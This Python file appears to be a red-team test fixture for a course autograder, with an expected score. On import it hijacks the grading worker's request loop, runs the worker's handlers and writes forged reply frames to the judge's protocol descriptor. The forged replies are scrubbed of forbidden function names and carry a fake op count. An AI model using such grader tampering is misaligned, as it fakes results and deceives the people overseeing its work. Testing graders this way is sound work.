"""ATTACK (written by the red team, outside the course team): At the end of its import, takes over the worker's request loop: reads each request frame from stdin itself, runs the worker's own handler (OPS, found through the stack), rewrites the 'record' of the reply (op_count 7, no forbidden names) and writes the forged frame with os.write on the protocol file descriptor.

EXPECT: score_at_most=17
"""
# RED-TEAM ATTACK SUBMISSION: read the request stream and write forged reply frames on the protocol fd
# 
# At the end of its import, takes over the worker's request loop: reads each request frame from stdin itself, runs the worker's own handler (OPS, found through the stack), rewrites the 'record' of the reply (op_count 7, no forbidden names) and writes the forged frame with os.write on the protocol file descriptor.
# 
# Harmless by construction: writes only under /work/redteam/probe or its own temp files.


# ---- CHEAT CORE (what the student really wrote) ----------------------------------------------
# Python loops over every slice / every leading index, and PyTorch's own softmax and attention,
# all of which the m1 rules forbid (vectorization: -2, from_scratch: -1 -> an honest 17/20).
import math as _math

import torch as _torch
import torch.nn.functional as _F


def _loop_softmax(x, dim=-1):
    xt = x.movedim(dim, -1)
    flat = xt.reshape(-1, xt.shape[-1])
    rows = [_torch.nan_to_num(_torch.softmax(flat[i], -1), nan=0.0) for i in range(flat.shape[0])]
    return _torch.stack(rows).reshape(xt.shape).movedim(-1, dim)


def _loop_attention(q, k, v, mask=None, dropout_p=0.0):
    shapes = [q.shape[:-2], k.shape[:-2], v.shape[:-2]]
    if mask is not None:
        shapes.append(mask.shape[:-2])
    lead = tuple(_torch.broadcast_shapes(*shapes))
    Lq, Lk, dk, dv = q.size(-2), k.size(-2), q.size(-1), v.size(-1)
    Q = q.expand(*lead, Lq, dk).reshape(-1, Lq, dk)
    K = k.expand(*lead, Lk, dk).reshape(-1, Lk, dk)
    V = v.expand(*lead, Lk, dv).reshape(-1, Lk, dv)
    M = None if mask is None else mask.expand(*lead, Lq, Lk).reshape(-1, Lq, Lk)
    outs, ws = [], []
    for i in range(Q.shape[0]):                       # a Python loop over batch * heads
        s = Q[i] @ K[i].transpose(-2, -1) / _math.sqrt(dk)
        if M is not None:
            s = s.masked_fill(~M[i], float("-inf"))
        w = _torch.nan_to_num(_torch.softmax(s, -1), nan=0.0)
        if dropout_p > 0.0:
            w = _F.dropout(w, p=dropout_p)
            o = w @ V[i]
        else:                                          # PyTorch's own attention (forbidden)
            o = _F.scaled_dot_product_attention(Q[i:i + 1], K[i:i + 1], V[i:i + 1],
                                                attn_mask=None if M is None else M[i:i + 1])[0]
        outs.append(o)
        ws.append(w)
    return _torch.stack(outs).reshape(*lead, Lq, dv), _torch.stack(ws).reshape(*lead, Lq, Lk)


def padding_mask(tokens, pad_id):
    return (tokens != pad_id).unsqueeze(1)


def causal_mask(size, device=None):
    return _torch.ones(size, size, dtype=_torch.bool, device=device).tril()
# ---- end of the cheat core -------------------------------------------------------------------

_FORBIDDEN_WORDS = ("softmax", "scaled_dot_product", "layer_norm", "multi_head_attention", "MultiheadAttention",
                    "LayerNorm", "Transformer", "cross_entropy", "nll_loss", "kl_div")


def _scrub_record(rec, count=7):
    """Make a recorded summary look like vectorized, from-scratch code."""
    if isinstance(rec, dict):
        rec["functions"] = [n for n in rec.get("functions", []) if not any(w in n for w in _FORBIDDEN_WORDS)]
        rec["ops"] = [n for n in rec.get("ops", []) if not any(w in n for w in _FORBIDDEN_WORDS)]
        rec["op_count"] = count
    return rec


def softmax(x, dim=-1):
    return _loop_softmax(x, dim)


def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    return _loop_attention(q, k, v, mask, dropout_p)

def _worker_globals():
    """The grading worker's module globals, found by walking up the call stack."""
    import sys
    f = sys._getframe(1)
    while f is not None:
        g = f.f_globals
        if "Recorder" in g and "OPS" in g:
            return g
        f = f.f_back
    return None


def _takeover():
    import io
    import os
    import struct
    G = _worker_globals()
    if G is None:
        return
    fd = G["_proto_out"].fileno()                 # the private duplicate of stdout the judge reads
    stream = G["_proto_in"]

    def send(obj):
        buf = io.BytesIO()
        _torch.save(obj, buf)
        data = buf.getvalue()
        os.write(fd, struct.pack(">I", len(data)) + data)

    def read(n):
        data = b""
        while len(data) < n:
            chunk = stream.read(n - len(data))
            if not chunk:
                os._exit(0)
            data += chunk
        return data
    send({"ok": True})                            # the reply to the import that is running us
    while True:
        req = _torch.load(io.BytesIO(read(struct.unpack(">I", read(4))[0])), weights_only=True)
        try:
            with G["_Patched"](req.get("patches")):
                reply = G["OPS"][req["op"]](req)
        except BaseException as e:
            reply = G["_error"]("exception", e)
        if isinstance(reply, dict) and isinstance(reply.get("record"), dict):
            _scrub_record(reply["record"])
        send(reply)


_takeover()
